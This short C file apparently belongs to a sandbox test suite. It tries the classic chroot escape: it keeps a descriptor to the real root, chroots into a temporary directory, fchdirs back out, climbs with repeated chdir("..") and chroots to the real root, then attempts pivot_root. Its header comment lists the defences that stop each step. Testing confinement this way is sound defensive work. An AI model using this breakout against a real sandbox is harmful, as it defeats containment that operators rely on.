/* Change the root, and walk out of it with a descriptor that was kept.
 *
 * origin: chroot(2), "this call does not change the current working directory"
 * stopped by: no capability, seccomp, pivot_root
 * control: namespaces
 */
#include "attempt.h"

int main(void)
{
    mkdir("/tmp/attack-root", 0755);
    int root = open("/", O_RDONLY);
    ATTEMPT("chroot", chroot("/tmp/attack-root") == 0);
    fchdir(root);
    for (int i = 0; i < 64; i++)
        chdir("..");
    ATTEMPT("chroot to what is above", chroot(".") == 0);
    ATTEMPT("pivot_root", syscall(SYS_pivot_root, ".", ".") == 0);
    rmdir("/tmp/attack-root");
}
